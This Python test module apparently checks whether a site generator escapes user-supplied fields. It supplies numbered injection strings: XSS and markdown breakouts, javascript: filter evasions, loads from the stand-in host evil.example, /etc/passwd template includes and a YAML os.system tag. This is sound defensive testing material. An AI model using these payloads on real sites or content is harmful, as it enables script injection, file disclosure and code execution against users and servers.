"""Texts that do something where they are let through: call `hit`, ask a foreign host, or leave a mark."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass

FOREIGN = "evil.example"
"""A host that nothing of ours ever asks."""
MARK = "x-hit"
"""An element that nobody but a hostile text makes."""

Attack = Mapping[str, str]

# `{n}` is the number of the place where a text stands. Short, because pictures cut what is long.
VECTORS: Attack = {
    "script": "<script>hit({n})</script>",
    "image": '"><img src=x onerror=hit({n})>',
    "single-quoted": "'><svg/onload=hit({n})>",
    "title": "</title></desc><script>hit({n})</script>",
    "style": "</style><script>hit({n})</script>",
    "comment": "--><script>hit({n})</script><!--",
    "cdata": "]]><script>hit({n})</script>",
    "inside-script": "</script><script>hit({n})</script>",
    "inside-textarea": "</textarea></noscript></template><x-hit n={n}>",
    "attribute": '" onmouseenter=hit({n}) autofocus onfocus=hit({n}) x="',
    "javascript": "javascript:hit({n})",
    "javascript-in-capitals": "JaVaScRiPt:hit({n})",
    "javascript-with-a-tab": "java\tscript:hit({n})",
    "javascript-after-a-control": "\x01 javascript:hit({n})",
    "javascript-in-references": "javascript&#58;hit({n})",
    "javascript-by-name": "javascript&colon;hit({n})",
    "javascript-encoded": "javascript%3Ahit({n})",
    "vbscript": "vbscript:hit({n})",
    "data": "data:text/html,<script>parent.hit({n})</script>",
    "outside": "//evil.example/{n}",
    "outside-by-backslashes": "\\\\evil.example/{n}",
    "outside-frame": "<iframe src=//evil.example/{n}></iframe>",
    "outside-base": "<base href=//evil.example/{n}/><link rel=stylesheet href=//evil.example/{n}.css>",
    "refresh": "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "form": "<form action=//evil.example/{n}><button autofocus>x</button></form>",
    "css": "red}}*{{background:url(//evil.example/{n})",
    "references": "&#x3c;script&#x3e;hit({n})&#x3c;/script&#x3e;",
    "named-references": "&lt;img src=x onerror=hit({n})&gt;",
    "foreign-object": "<foreignObject><iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "animate": "<animate attributeName=x dur=1s onbegin=hit({n}) />",
    "set-href": "<a><set attributeName=href to=javascript:hit({n}) /></a>",
    "use": '<use href="data:image/svg+xml,<svg id=a onload=hit({n}) />#a"/>',
    "markdown-link": "[x](javascript:hit({n}))",
    "markdown-image": "![x](//evil.example/{n}.png)",
    "markdown-breakout": '![x](y"onerror="hit({n}))',
    "markdown-reference": "[x]: javascript:hit({n})",
    "markdown-autolink": "<javascript:hit({n})>",
    "markdown-footnote": "x[^1]\n\n[^1]: <x-hit n={n}>",
    "markdown-code": "```html\n<x-hit n={n}>\n```",
    "markdown-tick": "`</code><x-hit n={n}>`",
    "attribute-list": "{{: onmouseenter=hit({n}) #x }}",
    "attribute-list-of-a-heading": "# x {{#x onmouseenter=hit({n}) }}",
    "html-in-markdown": '<div markdown="1" onmouseenter=hit({n})>*x*</div>',
    "admonition": '!!! note "<x-hit n={n}>"\n    x',
    "details": "<details open ontoggle=hit({n})>",
    "cell": "x | <x-hit n={n}> |\n| --- | --- |",
    "template": "{{{{ 7 * 7 }}}}{{% include '/etc/passwd' %}}{n}",
    "snippet": '--8<-- "/etc/passwd" {n}',
    "shortcode": "{{{{< x >}}}} :smile: @octocat #1 {n}",
    "front-matter": "x\n---\nhooks: [x.py]\n<x-hit n={n}>",
    "yaml-tag": "!!python/object/apply:os.system ['true'] !ENV HOME {n}",
    "end": "</div></article></main></body></html><x-hit n={n}>",
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Slot:
    """Where a text stands: a field of a model, and how it attacks."""

    field: str
    """The model and the field, such as `Touchpoint.name`."""
    vector: str


class Slots:
    """Makes the texts of a blueprint, each with a number of its own, and remembers where each stands."""

    def __init__(self, write: Callable[[str, int, int], tuple[str, str]]) -> None:
        """Take what writes a text, given its field, how often that was written before, and its number."""
        self._write = write
        self._times: dict[str, int] = {}
        self.found: list[Slot] = []

    def text(self, field: str) -> str:
        """Return the next text for a field."""
        turn = self._times.get(field, 0)
        self._times[field] = turn + 1
        vector, text = self._write(field, turn, len(self.found))
        self.found.append(Slot(field, vector))
        return text


def attack(name: str, number: int) -> str:
    """Return a hostile text that tells its number when it is run."""
    return VECTORS[name].format(n=number)


def each_in_turn(*, first: int = 0) -> Slots:
    """Return slots in which each field meets one vector after the other, from one that differs by field."""
    names = tuple(VECTORS)
    begin: dict[str, int] = {}

    def write(field: str, turn: int, number: int) -> tuple[str, str]:
        at = begin.setdefault(field, first + len(begin))
        name = names[(at + turn) % len(names)]
        return name, attack(name, number)

    return Slots(write)


def in_groups(count: int) -> Slots:
    """Return slots with texts of several vectors, so that `count` of them for a field have every vector.

    An address has one, because only its beginning counts, and so has a word of a theme, which stands in many
    places. The blueprint itself is there once, so that all of them are in each of its texts.
    """
    names = tuple(VECTORS)
    groups = [names[at::count] for at in range(count)]

    def write(field: str, turn: int, number: int) -> tuple[str, str]:
        if field.endswith(".url") or field.startswith("theme."):
            chosen: tuple[str, ...] = (names[turn % len(names)],)
        else:
            chosen = names if field.startswith("Blueprint.") else groups[turn % count]
        return ", ".join(chosen), " ".join(attack(name, number) for name in chosen)

    return Slots(write)


def harmless() -> Slots:
    """Return slots with plain words."""
    return Slots(lambda _field, _turn, number: ("", f"words {number}"))
